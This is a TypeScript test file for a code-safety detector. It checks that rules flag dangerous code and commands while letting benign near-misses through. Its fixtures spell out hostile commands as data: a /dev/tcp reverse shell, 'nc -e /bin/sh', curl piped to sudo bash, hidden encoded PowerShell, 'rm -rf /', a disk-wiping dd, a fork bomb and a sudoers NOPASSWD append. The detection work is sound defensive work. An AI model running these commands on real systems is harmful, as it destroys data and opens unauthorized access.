import { describe, expect, it } from 'vitest';
import { CodeSafetyDetector } from './code-safety.js';
import { CODE_RULES } from './code-safety.rules.js';

const detector = new CodeSafetyDetector();
const found = (text: string): [string, string][] =>
  detector.find(text).map(({ rule, start, end }) => [rule, text.slice(start, end)]);

// Attack strings of the field's textbooks, as fixtures: none is run.
describe('what is found', () => {
  it.each([
    ['x = eval(input())', 'eval', 'eval('],
    ['window.eval(name)', 'eval', 'window.eval('],
    ['eval "$(curl -s x)"', 'eval', 'eval "$('],
    ['exec(payload)', 'exec', 'exec(p'],
    ["__import__('os').system('id')", 'exec', "__import__('os'"],
    ['os.system("ls")', 'shell_command', 'os.system('],
    ['subprocess.Popen(cmd)', 'shell_command', 'subprocess.Popen('],
    ["require('child_process').exec('id')", 'shell_command', "child_process').exec("],
    ['Runtime.getRuntime().exec("id")', 'shell_command', 'getRuntime().exec('],
    ['shell_exec($cmd)', 'shell_command', 'shell_exec($'],
    ['rm -rf /', 'delete_tree', 'rm -rf'],
    ['sudo rm -r -f /var', 'delete_tree', 'rm -r -f'],
    ['rm --no-preserve-root -fr /', 'delete_tree', 'rm --no-preserve-root -fr'],
    ['Remove-Item C:\\ -Recurse', 'delete_tree', 'Remove-Item C:\\ -Recurse'],
    ['shutil.rmtree(home)', 'delete_tree', 'shutil.rmtree('],
    ['dd if=/dev/zero of=/dev/sda', 'destroy_disk', 'dd if=/dev/zero of=/dev/s'],
    [':(){ :|:& };:', 'fork_bomb', ':(){ :|:& };:'],
    ['curl -fsSL https://x.test/i.sh | sudo bash', 'download_and_run', 'curl -fsSL https://x.test/i.sh | sudo bash'],
    ['bash <(wget -qO- x.test)', 'download_and_run', 'bash <(wget'],
    ['powershell -nop -w hidden -enc SQBFAFgAIAA=', 'hidden_command', 'powershell -nop -w hidden -enc SQBFAFgA'],
    ['echo aWQ= | base64 -d | sh', 'hidden_command', 'base64 -d | sh'],
    ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'reverse_shell', '/dev/tcp/10.0.0.1/4242'],
    ['nc -e /bin/sh 10.0.0.1 4242', 'reverse_shell', 'nc -e /bin/sh'],
    ['pickle.loads(blob)', 'unsafe_load', 'pickle.loads('],
    ['yaml.load(text)', 'unsafe_load', 'yaml.load('],
    ['chmod -R 777 /srv', 'open_permissions', 'chmod -R 777'],
    ["echo 'a ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", 'privilege', 'ALL=(ALL) NOPASSWD'],
  ])('%s', (text, rule, span) => {
    expect(found(text)).toContainEqual([rule, span]);
  });
});

describe('what is let through', () => {
  it.each([
    'The evaluation of the executive system was run by the committee.',
    'regex.exec(text); cursor.execute(sql); model.eval()',
    'def exec(self): pass',
    'yaml.load(text, Loader=yaml.SafeLoader); yaml.safe_load(text)',
    'rm old.txt; rm -i *.log; the farm -rf',
    'curl -s https://x.test/data.json | jq .',
    'chmod 644 file; chmod u+x run.sh',
    'nc -zv host 22',
    'json.loads(blob)',
    'find . -name "*.ts"',
    'fun f() { g() }',
    '',
  ])('%s', (text) => {
    expect(found(text)).toEqual([]);
  });
});

it.each(CODE_RULES)('takes steps in proportion to the text: $pattern repeats nothing without an end', ({ pattern }) => {
  const operators = pattern.source.replace(/\\.|\[(?:\\.|[^\]])*\]/g, '');
  expect(operators).not.toMatch(/[*+]|\{\d+,\}/);
});
